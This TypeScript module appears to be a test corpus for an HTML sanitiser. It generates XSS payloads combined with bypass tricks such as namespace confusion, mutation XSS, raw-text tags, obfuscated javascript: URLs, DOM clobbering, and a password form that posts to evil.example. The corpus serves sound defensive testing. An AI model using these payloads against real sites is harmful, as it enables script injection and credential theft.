/**
 * Hostile HTML by family. Each way of hiding from a sanitiser is combined with each payload. `CALL` is replaced by the
 * call that the test listens for.
 */
export const CALL = 'CALL';

type Carrier = (carried: string) => string;

/** Payloads that run by themselves in a page. */
const VECTORS: readonly string[] = [
  `<img src=x onerror=${CALL}>`,
  `<img/src=x/onerror="${CALL}">`,
  `<video src=x onerror=${CALL}></video>`,
  `<svg onload=${CALL}></svg>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<style onload=${CALL}></style>`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<img src=x onerror=&#${'C'.codePointAt(0)};ALL>`,
];

/** What one parser reads as text, and another as markup after a quoted end tag. */
const RAW = 'noembed xmp textarea noframes title style script iframe noscript'.split(' ');

/** Wrappers that one parser may read as text, comment or another namespace, and another may not. */
const WRAPPERS: Readonly<Record<string, readonly Carrier[]>> = {
  'in the open': [
    (v) => v,
    (v) => `<p><b>${v}</b></p>`,
    (v) => `<p>Tekst${'<b>'.repeat(12)}</p>${v}`,
  ],
  'SVG and MathML namespaces': [
    (v) => `<svg><foreignObject>${v}</foreignObject></svg>`,
    (v) => `<svg></p>${v}`,
    (v) => `<math><annotation-xml encoding="text/html">${v}</annotation-xml></math>`,
    (v) => `<math><mtext><table><mglyph>${v}`,
    (v) => `<form><math><mtext></form><form><mglyph><style></math>${v}`,
  ],
  'mutation: style and title read twice': [
    (v) => `<svg></p><style><a id="</style>${v}">`,
    (v) => `<math><mtext><mglyph><style></math>${v}</style>`,
    (v) => `<svg><style><![CDATA[</style>${v}]]>`,
    (v) => `<math><mtext><style><!--</style>${v}--></style>`,
  ],
  'raw text: noscript, xmp, noembed, textarea …': [
    (v) => `<noembed></noembed>${v}`,
    ...RAW.map((tag) => (v: string) => `<${tag}><p title="</${tag}>${v}">`),
  ],
  'comments, declarations and CDATA': [
    (v) => `<!-->${v}-->`,
    (v) => `<!-- --!>${v}-->`,
    (v) => `<!--<!-- -->${v}-->`,
    (v) => `<?xml version="1.0"?>${v}`,
    (v) => `<![CDATA[>${v}]]>`,
  ],
  'tables, forms and formatting put elsewhere': [
    (v) => `<table>${v}</table>`,
    (v) => `<table><tr>${v}<td>x</td></tr></table>`,
    (v) => `<a><table><a>${v}</table></a>`,
    (v) => `<form><div></form>${v}</div>`,
  ],
  'custom elements, depth and odd names': [
    (v) => `<x-lot is="x-lot">${v}</x-lot>`,
    (v) => `<__proto__>${v}`,
    (v) => `${'<div>'.repeat(505)}${v}`,
    (v) => `${'<span>'.repeat(120)}${v}${'</span>'.repeat(60)}`,
    (v) => `\ufeff${v}`,
    (v) => `\u0000<p\u0000>${v}`,
  ],
};

/** Addresses that run script, and how they are dressed up. */
const SCRIPT_ADDRESSES: readonly string[] = [
  `javascript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java&#10;script:${CALL}`,
  `javascript&colon;${CALL}`,
  `&#x6A;avascript:${CALL}`,
  `java&NewLine;script:${CALL}`,
  `javascript://a.example/%0a${CALL}`,
];

const LINK_CARRIERS: readonly Carrier[] = [
  (a) => `<a href="${a}">x</a>`,
  (a) => `<svg><a href="${a}"><text y=20>x</text></a></svg>`,
  (a) => `<form action="${a}"><button>x</button></form>`,
  (a) => `<form><button formaction="${a}">x</button></form>`,
  (a) => `<math href="${a}"><mtext>x</mtext></math>`,
  (a) => `<object data="${a}"></object>`,
];

const OTHER_ADDRESSES: readonly string[] = [
  'data:text/html,<script>1</script>',
  'data:image/svg+xml,<svg onload=1>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  '//evil.example/',
  String.raw`\\evil.example`,
  '#rent',
  'https://bank.example@evil.example/',
  'mailto:a@b.example?bcc=c@d.example',
  'tel:*%2306%23',
];

const FOREIGN_ATTRIBUTES: readonly string[] = [
  `onfocus="${CALL}"`,
  `onpointerrawupdate="${CALL}"`,
  'style="position:fixed;inset:0"',
  'class=page',
  'is=x-evil',
  'autofocus',
  'ping=https://evil.example/',
  'xlink:href=https://evil.example/',
];

const CLOBBERED =
  'body forms attributes childNodes parentNode nodeName innerHTML getAttribute removeChild __proto__ root DOMPurify'.split(
    ' ',
  );

const FORBIDDEN_ELEMENTS: readonly string[] = [
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<style>body{display:none}</style>',
  '<form action=https://evil.example/><input name=password type=password></form>',
  '<iframe src=https://evil.example/ sandbox></iframe>',
  '<template shadowrootmode=open><p>x</p></template>',
  '<svg><use href="data:image/svg+xml,x#x"></use></svg>',
  '<script type=speculationrules>{}</script>',
  '<plaintext>x',
  '<x-evil>x</x-evil>',
];

const carriedBy = (carriers: readonly Carrier[], all: readonly string[]): string[] =>
  carriers.flatMap((carry) => all.map((carried) => carry(carried)));

/** Family -> payloads. */
export const CORPUS: Readonly<Record<string, readonly string[]>> = {
  ...Object.fromEntries(
    Object.entries(WRAPPERS).map(([family, wrappers]) => [family, carriedBy(wrappers, VECTORS)]),
  ),
  'script addresses': carriedBy(LINK_CARRIERS, SCRIPT_ADDRESSES),
  'other addresses': OTHER_ADDRESSES.map((address) => `<a href="${address}">x</a>`),
  'attributes on allowed elements': carriedBy(
    [
      (attribute) => `<p ${attribute}>x</p>`,
      (attribute) => `<a ${attribute}>x</a>`,
      (attribute) => `<table><tr><td ${attribute}>x</table>`,
    ],
    FOREIGN_ATTRIBUTES,
  ),
  'DOM clobbering': carriedBy(
    [
      (name) => `<a id="${name}">x</a>`,
      (name) => `<form id=f><input name="${name}"></form>`,
      (name) =>
        `<form name="${name}"><a id="${name}" name=x href=https://evil.example>x</a></form>`,
    ],
    CLOBBERED,
  ),
  'forbidden elements': carriedBy(
    [(html) => html, (html) => `<p>Tekst ${html} tekst</p>`],
    FORBIDDEN_ELEMENTS,
  ),
};
